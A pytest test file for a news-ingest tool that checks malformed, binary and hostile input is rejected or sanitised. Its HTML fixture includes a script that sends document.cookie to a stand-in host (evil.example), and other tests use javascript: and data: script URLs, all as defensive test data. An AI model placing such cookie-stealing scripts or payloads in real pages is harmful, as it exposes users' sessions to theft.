"""Ingest of broken, hostile and odd input: every bad record is one clear rejection
naming file and line/record, every good record is stored, nothing raises."""

from __future__ import annotations

import gzip
import io
import json
import os
import subprocess
import sys
from pathlib import Path

import pytest

from newstrace.errors import UserError
from newstrace.index import Index
from newstrace.ingest import (
    MAX_TEXT_CHARS,
    Rejected,
    decode_bytes,
    make_document,
    parse_date,
    read_documents,
)


def _good(i: int, **extra: object) -> str:
    rec = {"id": f"good-{i}", "text": f"Good article number {i} about the harbour strike.", **extra}
    return json.dumps(rec)


def _read(*paths: Path) -> tuple[list, list[Rejected]]:
    docs, rejected = [], []
    for item in read_documents(paths):
        if isinstance(item, Rejected):
            rejected.append(item)
        else:
            docs.append(item)
    return docs, rejected


def _ids(docs: list) -> list[str]:
    return [d.id for d, _ in docs]


def _reasons(rejected: list[Rejected]) -> dict[str, str]:
    return {r.where: r.reason for r in rejected}


# -- JSON Lines -------------------------------------------------------------------------------
def test_malformed_jsonl_lines_rejected_with_line_numbers_and_good_lines_kept(tmp_path: Path) -> None:
    f = tmp_path / "mixed.jsonl"
    lines = [
        _good(1),
        '{"id": "broken", "text": "no closing brace"',
        "",
        '"a bare string"',
        "[1, 2, 3]",
        '{"id": "e", "text": "   \\n\\t "}',
        '{"id": "no-text"}',
        '{"id": "num", "text": 42}',
        "9" * 5000,
        "[" * 50_000,
        _good(2),
    ]
    f.write_text("\n".join(lines) + "\n", encoding="utf-8")
    docs, rejected = _read(f)
    assert _ids(docs) == ["good-1", "good-2"]
    reasons = _reasons(rejected)
    assert reasons[f"{f} line 2"].startswith("malformed JSON")
    assert reasons[f"{f} line 4"] == "expected a JSON object, got str"
    assert reasons[f"{f} line 5"] == "expected a JSON object, got list"
    assert reasons[f"{f} line 6"] == "empty text"
    assert reasons[f"{f} line 7"] == 'missing field "text"'
    assert "must be a string" in reasons[f"{f} line 8"]
    assert reasons[f"{f} line 9"].startswith("malformed JSON")
    assert "nested too deeply" in reasons[f"{f} line 10"]
    assert len(rejected) == 8


def test_invalid_utf8_and_mixed_encodings_keep_utf8_parts(tmp_path: Path) -> None:
    f = tmp_path / "enc.jsonl"
    utf8 = json.dumps({"id": "u", "text": "Zürich café — naïve"}, ensure_ascii=False).encode()
    cp1252 = json.dumps({"id": "w", "text": "Zürich café “quoted”"}, ensure_ascii=False).encode("cp1252")
    mixed = '{"id": "m", "text": "Straße '.encode() + "Straße".encode("latin-1") + b'"}'
    f.write_bytes(b"\xef\xbb\xbf" + utf8 + b"\n" + cp1252 + b"\n" + mixed + b"\n")
    docs, rejected = _read(f)
    assert not rejected
    by_id = {d.id: (d.text, w) for d, w in docs}
    assert by_id["u"] == ("Zürich café — naïve", [])
    assert by_id["w"][0] == "Zürich café “quoted”"
    assert "Windows-1252" in by_id["w"][1][0]
    assert by_id["m"][0] == "Straße Straße"


def test_decode_bytes_utf16_bom() -> None:
    assert decode_bytes("héllo".encode("utf-16"))[0] == "héllo"


def test_nul_bytes_and_control_characters_removed_with_warning(tmp_path: Path) -> None:
    f = tmp_path / "nul.jsonl"
    f.write_bytes(b'{"id": "n\x00id", "text": "before\x00after \\u0000 \x07bell", "title": "t\x00"}\n')
    docs, rejected = _read(f)
    assert not rejected
    (doc, warnings), = docs
    assert doc.id == "nid" and doc.text == "beforeafter  bell" and doc.title == "t"
    assert any("control characters" in w for w in warnings)


def test_unpaired_surrogates_replaced_one_for_one(tmp_path: Path) -> None:
    f = tmp_path / "sur.jsonl"
    f.write_text('{"id": "s", "text": "emoji \\ud83d cut", "publisher": "\\udc00pub"}\n')
    (doc, _warnings), = _read(f)[0]
    assert doc.text == "emoji \ufffd cut" and len(doc.text) == len("emoji x cut")
    assert doc.publisher == "\ufffdpub"
    bad_id = make_document({"id": "x\ud800", "text": "t"}, "here")
    assert isinstance(bad_id, Rejected) and "not valid Unicode" in bad_id.reason


def test_fifty_megabyte_document_rejected_with_size(tmp_path: Path) -> None:
    f = tmp_path / "big.jsonl"
    big = "word " * (50 * 1024 * 1024 // 5)
    with f.open("w") as fh:
        fh.write(_good(1) + "\n")
        fh.write(json.dumps({"id": "huge", "text": big}) + "\n")
        fh.write(_good(2) + "\n")
    docs, rejected = _read(f)
    assert _ids(docs) == ["good-1", "good-2"]
    (r,) = rejected
    assert r.where == f"{f} line 2" and "text too long" in r.reason and f"{MAX_TEXT_CHARS:,}" in r.reason


def test_duplicate_ids_with_different_content(tmp_path: Path) -> None:
    a, b = tmp_path / "a.jsonl", tmp_path / "b.jsonl"
    a.write_text(_good(1) + "\n" + json.dumps({"id": "good-1", "text": "Something else entirely."}) + "\n")
    b.write_text(_good(1) + "\n")  # same content again: a duplicate, not a conflict
    docs, rejected = _read(a, b)
    assert _ids(docs) == ["good-1", "good-1"]
    (r,) = rejected
    assert r.where == f"{a} line 2"
    assert "duplicate id 'good-1' with different content" in r.reason and f"{a} line 1" in r.reason
    db = tmp_path / "x.duckdb"
    with Index.open(db) as idx:
        rep = idx.ingest([a, b])
        assert (rep.added, rep.duplicates, len(rep.rejected)) == (1, 1, 1)
        c = tmp_path / "c.jsonl"
        c.write_text(json.dumps({"id": "good-1", "text": "A third version."}) + "\n")
        rep = idx.ingest([c])
        assert rep.added == 0 and len(rep.rejected) == 1 and "different content" in rep.rejected[0][1]


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("2026-03-02T10:00:00+02:00", "2026-03-02T08:00:00"),
        ("2026-03-02T10:00:00Z", "2026-03-02T10:00:00"),
        ("2026-03-02T10:00:00-05:30", "2026-03-02T15:30:00"),
        ("Mon, 02 Mar 2026 10:00:00 EST", "2026-03-02T15:00:00"),
        ("2026-03-02", "2026-03-02T00:00:00"),
        ("02.03.2026", "2026-03-02T00:00:00"),
        (1772445600, "2026-03-02T10:00:00"),
        (1772445600000, "2026-03-02T10:00:00"),
        ("", None),
        (None, None),
    ],
)
def test_dates_and_time_zones(value: object, expected: str | None) -> None:
    got = parse_date(value)
    assert (got.isoformat() if got else None) == expected


@pytest.mark.parametrize(
    "value",
    ["yesterday", "2026-13-45", "0000-00-00", "9999-12-31T23:59:59-14:00", "1066-10-14", 1e300,
     float("nan"), float("inf"), -1e20, True, ["2026"], {"y": 1}, "2026-03-02T10:00:00+25:00"],
)
def test_garbled_dates_dropped_with_warning_record_kept(value: object) -> None:
    with pytest.raises(ValueError):
        parse_date(value)
    doc, warnings = make_document({"id": "d", "text": "text", "date": value}, "here")
    assert doc.published_at is None
    assert any(w.startswith("published_at ignored") for w in warnings)


def test_javascript_urls_dropped(tmp_path: Path) -> None:
    for url, kept in [("javascript:alert(1)", False), (" JaVaScRiPt:alert(1)", False),
                      ("data:text/html,<script>", False), ("https://example.com/a?b=1", True),
                      ("example.com/x", True)]:
        doc, _ = make_document({"text": "t", "url": url}, "here")
        assert (doc.url is not None) == kept, url


# -- CSV --------------------------------------------------------------------------------------
def test_csv_malformed_rows_recovered(tmp_path: Path) -> None:
    f = tmp_path / "a.csv"
    f.write_bytes(
        b"id,text,date\n"
        b"1,First good row,2020-01-01\n"
        b'2,"bad "quote" here,2020-01-02\n'
        b"3,Third row,not a date\n"
        b"4,too,many,values,here\n"
        b"5,\n"
        b"6,caf\xe9 in latin-1,\n"
        b'7,"unterminated quote\n'
        b"8,Eighth row,\n"
    )
    docs, rejected = _read(f)
    assert _ids(docs) == ["1", "3", "6", "8"]
    assert dict(docs)[next(d for d, _ in docs if d.id == "6")] != []
    assert next(d for d, _ in docs if d.id == "6").text == "café in latin-1"
    reasons = _reasons(rejected)
    assert reasons[f"{f} line 3"].startswith("malformed CSV")
    assert reasons[f"{f} line 5"].startswith("more values")
    assert reasons[f"{f} line 6"] == "empty text"
    assert reasons[f"{f} line 8"].startswith("malformed CSV")
    assert len(rejected) == 4


def test_tsv_and_empty_csv(tmp_path: Path) -> None:
    t = tmp_path / "a.tsv"
    t.write_text("id\ttext\nx\thello there\n")
    e = tmp_path / "empty.csv"
    e.write_text("")
    docs, rejected = _read(t, e)
    assert _ids(docs) == ["x"]
    assert _reasons(rejected) == {str(e): "empty file: no records"}


# -- HTML, WARC, text, binary, gzip, paths ------------------------------------------------------
HOSTILE_HTML = """<html><head><title>Harbour strike</title>
<script>document.location='http://evil.example/'+document.cookie</script>
<style>body{display:none}</style></head>
<body onload="alert(1)"><nav><a href="/">Home</a> | <a href="/about">About</a></nav>
<div class="cookie-banner">We use cookies. Accept all?</div>
<article><h1>Harbour strike enters third day</h1>
<p>Dock workers in the port city stayed off the job for a third day on Wednesday, union leaders said, as talks with employers stalled over pay.</p>
<p>The strike has left dozens of container ships waiting offshore, and exporters warned of mounting losses if the dispute drags on into next week.</p>
<script>var x = "<p>injected paragraph</p>";</script>
<p>Officials from the ports authority said they hoped to bring both sides back to the table before the weekend.</p>
</article><footer>Copyright 2026. All rights reserved. Subscribe to our newsletter.</footer></body></html>"""


def test_html_scripts_and_boilerplate_removed(tmp_path: Path) -> None:
    (tmp_path / "sub").mkdir()
    f = tmp_path / "sub" / "page.html"
    f.write_text(HOSTILE_HTML)
    (tmp_path / "scripts-only.html").write_text("<html><script>alert(1)</script></html>")
    docs, rejected = _read(tmp_path)
    (doc, _), = docs
    assert doc.id == "sub/page"
    assert "Dock workers" in doc.text and "ports authority" in doc.text
    for junk in ("document.cookie", "alert", "injected", "cookies", "Subscribe", "display:none"):
        assert junk not in doc.text
    assert _reasons(rejected) == {str(tmp_path / "scripts-only.html"): "no article text found in HTML"}


def _warc(records: int) -> bytes:
    from warcio.statusandheaders import StatusAndHeaders
    from warcio.warcwriter import WARCWriter

    buf = io.BytesIO()
    writer = WARCWriter(buf, gzip=True)
    body = HOSTILE_HTML.encode()
    for i in range(records):
        headers = StatusAndHeaders("200 OK", [("Content-Type", "text/html")], protocol="HTTP/1.1")
        writer.write_record(writer.create_warc_record(
            f"https://news.example/{i}", "response", payload=io.BytesIO(body.replace(b"third", str(i).encode())),
            http_headers=headers,
        ))
    writer.write_record(writer.create_warc_record("https://news.example/x", "request",
                                                  payload=io.BytesIO(b"GET /x HTTP/1.1\r\n\r\n")))
    return buf.getvalue()


def test_warc_good_truncated_and_not_warc(tmp_path: Path) -> None:
    data = _warc(4)
    good, cut, fake, cut_plain = (tmp_path / n for n in ("a.warc.gz", "b.warc.gz", "c.warc", "d.warc"))
    good.write_bytes(data)
    cut.write_bytes(data[: len(data) * 6 // 10])
    fake.write_text("this is not a WARC file\n")
    plain = gzip.decompress(data)
    cut_plain.write_bytes(plain[: len(plain) * 6 // 10])
    docs, rejected = _read(good)
    assert [d.url for d, _ in docs] == [f"https://news.example/{i}" for i in range(4)]
    assert all(d.published_at is not None and "Dock workers" in d.text for d, _ in docs)
    assert not rejected
    for bad in (cut, cut_plain):
        docs, rejected = _read(bad)
        assert 1 <= len(docs) < 4
        (r,) = rejected
        assert r.where == str(bad) and "truncated" in r.reason
    docs, rejected = _read(fake)
    assert not docs and "not a WARC" in rejected[0].reason


def test_binary_gzip_and_unreadable_files(tmp_path: Path) -> None:
    (tmp_path / "random.jsonl").write_bytes(os.urandom(4096))
    (tmp_path / "image.csv").write_bytes(b"\x89PNG\r\n\x1a\n" + os.urandom(500))
    (tmp_path / "zip.txt").write_bytes(b"PK\x03\x04" + os.urandom(300))
    (tmp_path / "fake.jsonl.gz").write_text(_good(1))
    g = gzip.compress("\n".join(_good(i) for i in range(200)).encode())
    (tmp_path / "cut.jsonl.gz").write_bytes(g[: len(g) // 2])
    (tmp_path / "gz-without-suffix.jsonl").write_bytes(gzip.compress(_good(7).encode()))
    (tmp_path / "notes.md").write_text("# not an article format")
    (tmp_path / ".hidden.jsonl").write_text("{broken")
    os.mkfifo(tmp_path / "pipe.jsonl")
    os.symlink("/nonexistent/target.jsonl", tmp_path / "dangling.jsonl")
    if Path("/proc/self/mem").exists():  # unreadable even for root: read() fails with EIO
        os.symlink("/proc/self/mem", tmp_path / "eio.jsonl")
    docs, rejected = _read(tmp_path)
    reasons = _reasons(rejected)

    def p(n: str) -> str:
        return str(tmp_path / n)

    assert reasons[p("random.jsonl")] == "binary file, not JSON Lines"
    assert reasons[p("image.csv")] == "binary file, not CSV"
    assert reasons[p("zip.txt")] == "binary file, not text"
    assert reasons[p("fake.jsonl.gz")] == "not a valid gzip file (no gzip header)"
    cut = [r for r in rejected if r.where.startswith(p("cut.jsonl.gz"))]
    assert len(cut) == 1 and "truncated or corrupt gzip" in cut[0].reason
    n_cut = sum(1 for d, _ in docs if d.id.startswith("good-") and d.id != "good-7")
    assert 50 < n_cut < 200  # every complete line before the break is kept
    assert "good-7" in _ids(docs)
    assert reasons[p("notes.md")] == "unsupported file type .md"
    assert reasons[p("pipe.jsonl")].startswith("not a regular file")
    assert reasons[p("dangling.jsonl")] == "broken symbolic link"
    if (tmp_path / "eio.jsonl").is_symlink():  # a link out of the folder is not followed...
        assert reasons[p("eio.jsonl")].startswith("symbolic link to a file outside the folder")
        _, direct = _read(tmp_path / "eio.jsonl")  # ...but a path given by name is read
        assert _reasons(direct)[p("eio.jsonl")].startswith("cannot read")
    assert not any(".hidden" in r.where for r in rejected)


def test_permission_denied(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    f = tmp_path / "locked.jsonl"
    f.write_text(_good(1) + "\n")
    if os.geteuid() != 0:
        f.chmod(0)
    else:  # root reads anything: simulate what chmod 000 does for a normal user
        monkeypatch.setattr(os, "access", lambda path, mode: Path(path) != f)
    docs, rejected = _read(f, )
    assert not docs and _reasons(rejected) == {str(f): "permission denied"}


def test_missing_path_is_a_user_error_before_anything_is_read(tmp_path: Path) -> None:
    good = tmp_path / "good.jsonl"
    good.write_text(_good(1))
    with pytest.raises(UserError, match="no such file"):
        list(read_documents([good, tmp_path / "nope.jsonl"]))


def test_json_array_and_single_object_files(tmp_path: Path) -> None:
    arr = tmp_path / "arr.json"
    arr.write_text(json.dumps([json.loads(_good(1)), "oops", json.loads(_good(2))], indent=1))
    one = tmp_path / "one.json"
    one.write_text(json.dumps(json.loads(_good(3)), indent=2))
    docs, rejected = _read(arr, one)
    assert _ids(docs) == ["good-1", "good-2", "good-3"]
    assert _reasons(rejected) == {f"{arr} record 2": "expected a JSON object, got str"}


# -- the CLI contract -------------------------------------------------------------------------
def _cli(*args: str, cwd: Path) -> subprocess.CompletedProcess[str]:
    env = {**os.environ, "COLUMNS": "80", "NO_COLOR": "1"}
    return subprocess.run([sys.executable, "-m", "newstrace", *args], capture_output=True, text=True,
                          cwd=cwd, env=env, timeout=120, check=False)


@pytest.fixture(scope="module")
def cli_run(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, subprocess.CompletedProcess[str]]:
    tmp = tmp_path_factory.mktemp("cli")
    data = tmp / "in"
    data.mkdir()
    (data / "a.jsonl").write_text(
        _good(1) + "\n{broken json line\n" + _good(2) + '\n{"id": "good-1", "text": "changed"}\n'
    )
    (data / "b.csv").write_text("id,text\nc1,A csv article about the strike.\nc2,\n")
    (data / "c.bin.txt").write_bytes(os.urandom(2000))
    return tmp, _cli("ingest", str(data), "--db", str(tmp / "t.duckdb"), "--errors",
                     str(tmp / "rejects.jsonl"), cwd=tmp)


def test_cli_exit_code_2_summary_and_errors_file(cli_run) -> None:  # type: ignore[no-untyped-def]
    tmp, res = cli_run
    assert res.returncode == 2, res.stderr
    assert "Traceback" not in res.stderr + res.stdout
    assert "added 3" in res.stdout and "rejected 4" in res.stdout
    rejects = [json.loads(line) for line in (tmp / "rejects.jsonl").read_text().splitlines()]
    assert len(rejects) == 4 and all(set(r) == {"where", "reason"} for r in rejects)
    wheres = {r["where"] for r in rejects}
    assert any(w.endswith("a.jsonl line 2") for w in wheres)
    assert any(w.endswith("a.jsonl line 4") for w in wheres)
    assert any(w.endswith("b.csv line 3") for w in wheres)
    assert any(w.endswith("c.bin.txt") for w in wheres)
    with Index.open(tmp / "t.duckdb", read_only=True) as idx:
        assert idx.stats()["documents"] == 3
    again = _cli("ingest", str(tmp / "in" / "b.csv"), "--db", str(tmp / "t.duckdb"), cwd=tmp)
    assert again.returncode == 2 and "added 0" in again.stdout  # idempotent; c2 still rejected


def test_cli_each_rejection_is_one_stderr_line(cli_run) -> None:  # type: ignore[no-untyped-def]
    _tmp, res = cli_run
    lines = [ln for ln in res.stderr.splitlines() if ln.strip()]
    assert all(ln.startswith("rejected: ") for ln in lines), lines


def test_cli_missing_path_is_exit_1_one_line(tmp_path: Path) -> None:
    res = _cli("ingest", str(tmp_path / "missing.jsonl"), "--db", str(tmp_path / "t.duckdb"), cwd=tmp_path)
    assert res.returncode == 1
    assert "Traceback" not in res.stderr and "no such file" in res.stderr
